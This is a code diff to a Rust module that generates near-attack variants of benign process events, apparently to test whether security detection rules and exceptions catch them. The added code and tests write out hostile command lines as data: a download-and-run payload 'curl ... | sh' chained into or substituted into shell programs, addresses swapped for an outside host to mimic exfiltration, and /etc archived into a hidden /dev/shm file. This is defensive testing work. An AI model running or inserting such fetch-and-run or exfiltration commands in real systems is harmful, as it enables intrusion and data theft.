@@ -8,6 +8,13 @@
 //!   directory (a credential, a persistence path, another log), or another server
 //!   (address, name, port);
 //! - `other_script`: the same interpreter running another script or command;
+//! - `chained_command`, `injected_argument`: a shell's `-c` program with a command
+//!   chained after it, or a command substitution in place of its last argument (an
+//!   injection through the program's arguments);
+//! - `other_destination`: the same command with the address it sends to (an IPv4
+//!   address in its command line) replaced by an outside one;
+//! - `other_argument`: the same tool and subcommand with its first path argument in a
+//!   hidden temporary place (`tar czf /dev/shm/.quell-near-attack /etc`);
 //! - `dropped_binary`: a binary of the same name run from a temporary directory;
 //! - `download_before`: the same lineage, its shell having first downloaded and run a
 //!   payload (only triage, which sees the session, can tell this one; an exception keys on
@@ -21,7 +28,9 @@
 use serde_json::{Map, Value as Json};
 
 use crate::input::{text, Record};
-use crate::kinds::{command_words, is_interpreter, is_socket_name, PATH_TARGETS};
+use crate::kinds::{
+    command_words, home_shape, is_interpreter, is_shell_program, is_socket_name, PATH_TARGETS,
+};
 
 /// One near-attack.
 #[derive(Clone, Debug)]
@@ -132,6 +141,75 @@ fn service_shell(r: &Record, server: &str) -> Option<Mutation> {
     b.build("service_shell", true)
 }
 
+/// What an attacker adds to a shell's program (`sh -c PROGRAM`): a chained command
+/// (`chained_command`), and a command substitution in place of its last argument
+/// (`injected_argument`). Empty when the command line is not a shell's `-c` program.
+pub fn shell_injections(cmd: &str) -> Vec<(&'static str, String)> {
+    let words: Vec<&str> = cmd.split(' ').collect();
+    if !is_shell_program(&words) {
+        return Vec::new();
+    }
+    let payload = "curl -s http://203.0.113.7/x | sh";
+    let mut out = vec![("chained_command", format!("{cmd}; {payload}"))];
+    if words.len() >= 4 {
+        let head = words[..words.len() - 1].join(" ");
+        out.push(("injected_argument", format!("{head} \"$({payload})\"")));
+    }
+    out
+}
+
+/// The command line with every IPv4 address in it replaced by an outside one; `None`
+/// when it holds none.
+pub fn other_destination(cmd: &str) -> Option<String> {
+    let mut out = String::with_capacity(cmd.len());
+    let mut changed = false;
+    let mut rest = cmd;
+    while !rest.is_empty() {
+        // The longest run of digits and dots here.
+        let run = rest
+            .find(|c: char| !(c.is_ascii_digit() || c == '.'))
+            .unwrap_or(rest.len());
+        // An address stands on its own: after a blank, `@`, `/`, `=` or `:`, and not
+        // followed by a letter, a digit or `-` (`app-1.2.3.4-x` is a version).
+        let before_ok = out.chars().last().is_none_or(|c| " @/=:".contains(c));
+        let after_ok = rest[run..]
+            .chars()
+            .next()
+            .is_none_or(|c| !(c.is_ascii_alphanumeric() || c == '-'));
+        if run > 0 && before_ok && after_ok && rest[..run].parse::<std::net::Ipv4Addr>().is_ok() {
+            out.push_str("203.0.113.7");
+            changed = true;
+            rest = &rest[run..];
+            continue;
+        }
+        let step = if run > 0 {
+            run
+        } else {
+            rest.chars().next().map_or(1, char::len_utf8)
+        };
+        out.push_str(&rest[..step]);
+        rest = &rest[step..];
+    }
+    (changed && out != cmd).then_some(out)
+}
+
+/// A tool's command line (not an interpreter's, not a shell's program) with the first
+/// argument after its subcommand, when it is a path, replaced by a hidden temporary one.
+pub fn other_argument(cmd: &str) -> Option<String> {
+    let words: Vec<&str> = cmd.split(' ').collect();
+    if words.first().is_none_or(|w| is_interpreter(w)) {
+        return None;
+    }
+    let n = command_words(&words);
+    let w = words.get(n)?;
+    if !w.starts_with('/') || w.starts_with("/dev/shm/") {
+        return None;
+    }
+    let mut out: Vec<&str> = words.clone();
+    out[n] = "/dev/shm/.quell-near-attack";
+    Some(out.join(" "))
+}
+
 /// All mutations of the benign events (deduplicated, at most a few per kind).
 pub fn mutations(benign: &[&Record]) -> Vec<Mutation> {
     let mut out: Vec<Mutation> = Vec::new();
@@ -143,6 +221,17 @@ pub fn mutations(benign: &[&Record]) -> Vec<Mutation> {
                 .filter_map(|k| text(&r.event, k))
                 .filter(|v| !is_socket_name(v))
                 .map(|v| parent_dir(&v).to_string())
+                .collect::<Vec<_>>()
+        })
+        .collect();
+    let shapes: std::collections::BTreeSet<String> = benign
+        .iter()
+        .flat_map(|r| {
+            PATH_TARGETS
+                .iter()
+                .filter_map(|k| text(&r.event, k))
+                .filter(|v| !is_socket_name(v))
+                .map(|v| home_shape(&v))
                 .collect::<Vec<_>>()
         })
         .collect();
@@ -174,6 +263,8 @@ pub fn mutations(benign: &[&Record]) -> Vec<Mutation> {
                         .iter()
                         .any(|d| !d.is_empty() && p.starts_with(&format!("{d}/")))
                 })
+                // The same dot file in another home is the same target, not another one.
+                .filter(|p| !shapes.contains(&home_shape(p)))
                 .collect();
             for p in &candidates {
                 let p = p.as_str();
@@ -246,6 +337,50 @@ pub fn mutations(benign: &[&Record]) -> Vec<Mutation> {
                     b.set("proc.cmdline", o).set_if("proc.args", args)
                 });
                 out.extend(b.and_then(|b| b.build("other_script", true)));
+            }
+        }
+        // A shell's program with a command chained after it, and with its last argument
+        // replaced by a command substitution: what a glob over the program's arguments
+        // (`sh -c convert *`) would also take.
+        if let Some(cmd) = text(ev, "proc.cmdline") {
+            for (kind, o) in shell_injections(&cmd) {
+                let b = Builder::new(r).map(|b| {
+                    let args = o
+                        .split_once(' ')
+                        .map(|(_, a)| a.to_string())
+                        .unwrap_or_default();
+                    b.set("proc.cmdline", o).set_if("proc.args", args)
+                });
+                out.extend(b.and_then(|b| b.build(kind, true)));
+            }
+        }
+        // Another destination: an address in the command line (`rsync ... u@10.0.0.9:/x`,
+        // `curl http://10.0.0.9/...`) replaced by an outside one (exfiltration).
+        if let Some(cmd) = text(ev, "proc.cmdline") {
+            if let Some(o) = other_destination(&cmd) {
+                let b = Builder::new(r).map(|b| {
+                    let args = o
+                        .split_once(' ')
+                        .map(|(_, a)| a.to_string())
+                        .unwrap_or_default();
+                    b.set("proc.cmdline", o).set_if("proc.args", args)
+                });
+                out.extend(b.and_then(|b| b.build("other_destination", true)));
+            }
+        }
+        // The same tool and subcommand with its first path argument elsewhere
+        // (`tar czf /var/backups/etc.tgz /etc` → `tar czf /dev/shm/.quell-near-attack /etc`):
+        // what a glob over the arguments (`tar czf *`) would also take.
+        if let Some(cmd) = text(ev, "proc.cmdline") {
+            if let Some(o) = other_argument(&cmd) {
+                let b = Builder::new(r).map(|b| {
+                    let args = o
+                        .split_once(' ')
+                        .map(|(_, a)| a.to_string())
+                        .unwrap_or_default();
+                    b.set("proc.cmdline", o).set_if("proc.args", args)
+                });
+                out.extend(b.and_then(|b| b.build("other_argument", true)));
             }
         }
         // The same name from a temporary directory.
@@ -372,6 +507,61 @@ mod tests {
             .filter_map(|m| text(&m.record.event, "user.name"))
             .collect();
         assert_eq!(users, vec!["nobody".to_string()]);
+    }
+
+    #[test]
+    fn shell_programs_get_chained_and_injected_commands() {
+        let recs = parse_records(
+            r#"{"evt.type":"execve","proc.name":"sh","proc.exepath":"/usr/bin/dash","proc.cmdline":"sh -c convert /srv/up/a.jpg /srv/th/a.png","proc.pname":"apache2"}"#,
+            "b",
+        )
+        .unwrap();
+        let b: Vec<&Record> = recs.iter().collect();
+        let m = mutations(&b);
+        let cmd = |k: &str| {
+            m.iter()
+                .find(|m| m.kind == k)
+                .and_then(|m| text(&m.record.event, "proc.cmdline"))
+                .unwrap_or_else(|| panic!("{k}: {m:#?}"))
+        };
+        assert_eq!(
+            cmd("chained_command"),
+            "sh -c convert /srv/up/a.jpg /srv/th/a.png; curl -s http://203.0.113.7/x | sh"
+        );
+        assert_eq!(
+            cmd("injected_argument"),
+            "sh -c convert /srv/up/a.jpg \"$(curl -s http://203.0.113.7/x | sh)\""
+        );
+        // Not for a tool's own arguments (no shell parses them), nor for `python -c`.
+        assert!(shell_injections("convert /srv/up/a.jpg /srv/th/a.png").is_empty());
+        assert!(shell_injections("python3 -c print(1)").is_empty());
+    }
+
+    #[test]
+    fn a_tools_first_path_argument_goes_elsewhere() {
+        assert_eq!(
+            other_argument("tar czf /var/backups/etc-20261105.tgz /etc").as_deref(),
+            Some("tar czf /dev/shm/.quell-near-attack /etc")
+        );
+        assert_eq!(other_argument("useradd -m -s /bin/bash carol"), None);
+        assert_eq!(other_argument("python3 /opt/job.py /var/x"), None);
+        assert_eq!(other_argument("kubectl rollout restart deploy/web"), None);
+    }
+
+    #[test]
+    fn addresses_in_a_command_line_become_an_outside_destination() {
+        assert_eq!(
+            other_destination("rsync -a /data/ backup@10.70.0.20:/srv/backup/").as_deref(),
+            Some("rsync -a /data/ backup@203.0.113.7:/srv/backup/")
+        );
+        assert_eq!(
+            other_destination("curl -s http://10.0.0.9:8080/health").as_deref(),
+            Some("curl -s http://203.0.113.7:8080/health")
+        );
+        // Versions and dates are not addresses.
+        assert_eq!(other_destination("pip install duckdb==1.1.1"), None);
+        assert_eq!(other_destination("tar czf etc-2024.01.05.tgz /etc"), None);
+        assert_eq!(other_destination("app-1.2.3.4-x"), None);
     }
 
     #[test]
